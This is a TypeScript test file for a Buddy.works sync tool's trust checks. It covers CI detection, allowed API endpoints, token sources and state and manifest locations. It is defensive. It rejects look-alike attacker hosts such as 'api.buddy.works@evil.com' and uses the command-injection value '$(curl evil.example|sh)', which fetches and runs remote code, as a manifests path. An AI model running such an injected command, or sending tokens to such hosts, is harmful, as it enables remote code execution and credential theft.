import { describe, expect, it } from "vitest";
import {
  either,
  isBuiltIn,
  isCi,
  isLoopback,
  judgeApi,
  judgeToken,
  manifestsBeyond,
  stateBeyond,
  stateFault,
} from "../../../lib/core/trust/trust.ts";

describe("CI", () => {
  it.each([
    { CI: "true" },
    { CI: "1" },
    { TF_BUILD: "True" },
    { JENKINS_URL: "https://ci.example.com/" },
    { CIRCLECI: "true" },
    { BUDDY: "true" },
    { GITLAB_CI: "true" },
    { GITHUB_ACTIONS: "true" },
    { CI: "false", GITHUB_ACTIONS: "true" },
  ])("is where %j is set", (env) => {
    expect(isCi(env)).toBe(true);
  });

  it.each([{}, { CI: "" }, { CI: "false" }, { CI: "False" }, { USER: "ada", CI_COMMIT_SHA: "abc" }])(
    "is not where only %j is set",
    (env) => {
      expect(isCi(env)).toBe(false);
    },
  );
});

describe("what is said outside of the tree", () => {
  it("is the flag, before the variable", () => {
    expect(either("a", "--api", { API: "b" }, "API")).toEqual({ name: "a", from: "--api" });
    expect(either(undefined, "--api", { API: "b" }, "API")).toEqual({ name: "b", from: "API" });
  });

  it.each([{}, { API: "" }, { API: undefined }])("is nothing where the variable is empty: %j", (env) => {
    expect(either(undefined, "--api", env, "API")).toBeUndefined();
  });
});

describe("where the token may go", () => {
  it.each([
    "https://api.buddy.works",
    "https://api.eu.buddy.works/",
    "https://api.asia.buddy.works",
    "http://127.0.0.1:4010",
    "http://localhost",
    "https://[::1]:8443/api",
  ])("is %s without a word", (api) => {
    expect(isBuiltIn(api)).toBe(true);
    expect(judgeApi(undefined, { api }, 0)).toEqual({ use: api });
  });

  it.each([
    "https://evil.com",
    "http://api.buddy.works",
    "https://api.buddy.works:8443",
    "https://api.buddy.works.evil.com",
    "https://api.buddy.works@evil.com",
    "https://127.0.0.1.evil.com",
    "https://localhost.evil.com",
    "https://other.buddy.works",
    "not an address",
  ])("is not %s because the tree says so", (api) => {
    expect(isBuiltIn(api)).toBe(false);
    const judged = judgeApi(undefined, { api }, 2);
    expect(judged).toMatchObject({ beyond: { code: "BEYOND_TRUST", path: ["workspaces", 2, "api"] } });
  });

  it("is wherever a flag or a variable says, whatever the tree says", () => {
    const outside = { name: "https://buddy.example.com/api", from: "--api" };
    expect(judgeApi(outside, { api: "https://evil.com" }, 0)).toEqual({ use: outside.name });
  });

  it("is one of Buddy's regions, which the tree may choose", () => {
    expect(judgeApi(undefined, { region: "eu" }, 0)).toEqual({ use: "https://api.eu.buddy.works" });
    expect(judgeApi(undefined, {}, 0)).toEqual({ use: "https://api.buddy.works" });
  });

  it("is told with both values and with what would allow it", () => {
    const { beyond } = judgeApi(undefined, { api: "https://evil.com/api" }, 0) as { beyond: object };
    expect(JSON.stringify(beyond)).toContain("https://evil.com/api");
    expect(JSON.stringify(beyond)).toContain("https://api.buddy.works");
    expect(JSON.stringify(beyond)).toContain("--api https://evil.com/api or BUDDY_API_ENDPOINT");
  });

  it("is this machine only where the whole name is", () => {
    expect(isLoopback("http://127.0.0.1:1")).toBe(true);
    expect(isLoopback("https://api.buddy.works")).toBe(false);
    expect(isLoopback("nothing")).toBe(false);
  });
});

describe("where the token is read from", () => {
  const TREE = { token: { ssm: "/somebody/elses/secret" } };

  it("is what a flag says", () => {
    const env = { BUDDY_TOKEN: "x" };
    expect(judgeToken({ tokenEnv: "MINE" }, env, TREE, 0)).toEqual({ use: { env: "MINE" } });
    expect(judgeToken({ tokenSsm: "/mine" }, env, TREE, 0)).toEqual({ use: { ssm: "/mine" } });
  });

  it("is BUDDY_TOKEN while that is set, then what DISTRO_SYNC_TOKEN_SSM names", () => {
    const env = { BUDDY_TOKEN: "x", DISTRO_SYNC_TOKEN_SSM: "/mine" };
    expect(judgeToken({}, env, TREE, 0)).toEqual({ use: { env: "BUDDY_TOKEN" } });
    expect(judgeToken({}, { ...env, BUDDY_TOKEN: "" }, TREE, 0)).toEqual({ use: { ssm: "/mine" } });
  });

  it("is not a parameter because the tree says so", () => {
    expect(judgeToken({}, {}, TREE, 1)).toMatchObject({
      beyond: {
        code: "BEYOND_TRUST",
        path: ["workspaces", 1, "token", "ssm"],
        remedy: expect.stringContaining("--token-ssm /somebody/elses/secret") as string,
      },
    });
  });

  it("is not another variable because the tree says so: it may hold another secret", () => {
    expect(judgeToken({}, { AWS_SECRET: "x" }, { token: { env: "AWS_SECRET" } }, 0)).toMatchObject({
      beyond: {
        code: "BEYOND_TRUST",
        path: ["workspaces", 0, "token", "env"],
        remedy: expect.stringContaining("--token-env AWS_SECRET") as string,
      },
    });
  });

  it.each([{}, { token: { env: "BUDDY_TOKEN" } }, { token: { oidc: { provider_id: "p" } } }])(
    "is BUDDY_TOKEN, also unset, where the tree says %j",
    (entry) => {
      expect(judgeToken({}, {}, entry, 0)).toEqual({ use: { env: "BUDDY_TOKEN" } });
    },
  );
});

describe("where state may be kept", () => {
  const place = { folder: "/w/state", tracked: false };

  it("is a folder that no commit can fill", () => {
    expect(stateFault(place, { ci: true })).toBeUndefined();
    expect(stateFault({ ...place, workTree: "/w" }, { ci: false })).toBeUndefined();
  });

  it.each([
    ["git tracks it", { ...place, workTree: "/w", tracked: true }, false],
    ["it lies in the work tree, in CI", { ...place, workTree: "/w" }, true],
    ["somebody else's link leads to it", { ...place, foreignLink: "/w/link" }, false],
  ])("is no folder of which %s", (_, look, ci) => {
    expect(stateFault(look, { ci })).toContain("/w/state");
  });

  it("is not a bucket because the tree says so", () => {
    expect(stateBeyond("s3://theirs", "--state s3://theirs")).toMatchObject({
      code: "BEYOND_TRUST",
      path: ["state", "s3"],
      remedy: expect.stringContaining("--state s3://theirs") as string,
    });
  });
});

describe("where manifests may be", () => {
  it.each([
    [false, "outside of /w"],
    [true, "through a link in /w"],
  ])("is told with the folder that was named and the one that it leads to: by a link, %s", (linked, how) => {
    const problem = manifestsBeyond({ manifests: "../out" }, 0, { real: "/out", boundary: "/w", linked });
    expect(problem).toMatchObject({ code: "BEYOND_TRUST", path: ["workspaces", 0, "manifests"] });
    expect(problem.message).toBe(`manifests is ../out, which leads to /out ${how}`);
  });

  it("is told without a command that a path could be made to run when it is pasted", () => {
    const manifests = "$(curl evil.example|sh)";
    const { remedy } = manifestsBeyond({ manifests }, 0, { real: "/out", boundary: "/w", linked: false });
    expect(remedy).not.toContain("curl");
  });
});
